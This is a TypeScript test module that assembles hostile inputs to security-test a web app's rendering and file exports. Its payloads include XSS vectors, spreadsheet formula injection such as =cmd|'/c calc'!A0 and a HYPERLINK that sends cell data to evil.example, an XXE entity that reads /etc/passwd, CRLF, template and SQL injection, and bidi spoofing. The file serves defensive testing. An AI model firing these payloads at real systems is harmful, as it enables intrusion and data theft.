import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as z from 'zod/mini';

/** A hostile text. */
export interface Payload {
  readonly text: string;
  /** Used as the whole value, without a mark appended: otherwise it would have no effect. */
  readonly alone?: true;
}

/** Script injections. All of them call `alert`, navigate or load something, which is detected. */
const vectors = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">按這裡</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>送出</button></form>',
  '<style>@import url(https://evil.example/x.css);*{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x"></object>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<template><script>alert(1)</script></template>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="application/ld+json">{"@context":"https://schema.org"}</script>',
] as const;

/** Contexts that a text may be inserted into, and how to break out of them. */
const schemes = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '`">',
] as const;

/** Markdown whose link leads elsewhere than it shows, or that is more than text. */
const markdown = [
  '[按這裡](javascript:alert(1))',
  '[按這裡](JaVaScRiPt&colon;alert(1))',
  '[按這裡](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[按這裡](vbscript:msgbox(1))',
  '![圖](javascript:alert(1))',
  '![圖](https://evil.example/pixel.png)',
  '[https://www.gov.tw/evil.example](https://evil.example/)',
  '[www.gov.tw](https://www.gov.tw@evil.example/)',
  '[x]: javascript:alert(1)\n[x]',
  '<javascript:alert(1)>',
  '[^1]: <img src=x onerror=alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '*'.repeat(200) + '[('.repeat(200),
] as const;

/** Characters that reorder, hide or break adjacent text. */
const marks = [
  '\u202Etxt.exe\u202C 反向',
  '\u202Elive.elpmaxe',
  '\u2067甲\u2066乙',
  '零\u200B寬\u200D字\uFEFF元\u2060',
  'a\u0300'.repeat(60),
  '國\u0000家\u0007\u0008\u000B\u001B[31m',
  '行\u2028分\u2029段\u0085',
  '\uFFFE\uFFFF\uFDD0',
  '\uD83D\uDE00'.repeat(40),
  '﷽'.repeat(20),
] as const;

/** Texts that would be evaluated, or would break the syntax, in generated files. */
const fileBreakers = [
  `=HYPERLINK("https://evil.example/?"&A1,"按這裡")`,
  `=cmd|'/c calc'!A0`,
  '+SUM(1,1)*cmd',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '＝HYPERLINK("https://evil.example/")',
  '"\r\n=1+1,"',
  '甲\r\nATTENDEE:mailto:evil@evil.example\r\nSUMMARY:換掉',
  '甲\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil',
  '甲\\nBEGIN:VALARM;X=1,2:3',
  ']]></summary><entry><title>假的</title></entry>',
  '</title><link href="https://evil.example/"/>&evil;&#x0;<![CDATA[',
  '<!DOCTYPE x [<!ENTITY evil SYSTEM "file:///etc/passwd">]>&evil;',
  '</script><script>alert(1)</script>',
  '{"@type":"ClaimReview"}</script>',
  '%0d%0aSet-Cookie:%20a=b',
  '${alert(1)} {{constructor.constructor("alert(1)")()}} #{7*7} <%= 7*7 %>',
  "'; DROP TABLE qna; --",
  '../../../../etc/passwd',
  '{{title}} $t(common.error) {{- x}}',
] as const;

/** Names of properties that every object has. */
const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'null',
  'NaN',
];

const huge = (length: number): string => `大${'巨'.repeat(length)}`;

/** Valid links whose text suggests another target. */
export const hostileLinks: readonly string[] = [
  'https://www.gov.tw@evil.example/',
  'https://evil.example/"><script>alert(1)</script>',
  "https://evil.example/'onmouseover='alert(1)",
  'https://xn--80ak6aa92e.com/',
  'https://evil.example/\u202Egnp.wt.vog',
  `https://evil.example/${'長'.repeat(400)}`,
  'https://evil.example/%0d%0aLocation:%20https://evil.example',
  'http://[::1]:1/</script>',
];

/** Values that a field other than free text must reject. */
export const refusedValues: readonly string[] = [
  'javascript:alert(1)',
  '"><img src=x onerror=alert(1)>',
  'data:text/html,<script>alert(1)</script>',
  '../../admin',
  '__proto__',
];

const simple = (texts: readonly string[]): Payload[] => texts.map((text) => ({ text }));
const alone = (texts: readonly string[]): Payload[] => texts.map((text) => ({ text, alone: true }));

/** A few of every kind, combined: what the gate has time for. */
const few = (): Payload[] => [
  ...simple([
    `">${vectors[1]}`,
    fileBreakers[0],
    `</script>${vectors[0]}`,
    marks[0],
    markdown[0],
    fileBreakers[8],
    marks[5],
    fileBreakers[11],
    markdown[6],
  ]),
  ...alone(['__proto__', 'constructor']),
  ...simple([fileBreakers[6], fileBreakers[12], marks[6], fileBreakers[20], vectors[10], huge(50_000)]),
];

const textList = z.array(z.string());

/** Returns the texts of a JSON array, which can contain what a UTF-8 file cannot, such as a lone surrogate. */
function listed(content: string): readonly string[] | undefined {
  try {
    const parsed = textList.safeParse(JSON.parse(content));
    return parsed.success ? parsed.data : undefined;
  } catch {
    return undefined;
  }
}

/** Reads the payloads in a folder: every text of a JSON array, every line of any other file. */
function readPayloads(folder: string): Payload[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .flatMap((entry) => {
      const content = readFileSync(join(entry.parentPath, entry.name), 'utf8');
      const texts = (entry.name.endsWith('.json') && listed(content)) || content.split('\n');
      return simple(texts.filter((text) => text.trim() !== ''));
    });
}

/** The subsets of our own texts. */
export const ownParts = ['few', 'all', 'none'] as const;

/** Returns the hostile texts: a few of every kind, all or none of our own, followed by those in a folder. */
export function corpus(part: (typeof ownParts)[number], folder?: string): Payload[] {
  const own = {
    few,
    all: () => [
      ...simple(vectors.flatMap((vector) => schemes.map((way) => way + vector))),
      ...simple([...markdown, ...marks, ...fileBreakers, huge(500), huge(50_000)]),
      ...alone(names),
    ],
    none: () => [],
  };
  return [...own[part](), ...(folder === undefined ? [] : readPayloads(folder))];
}
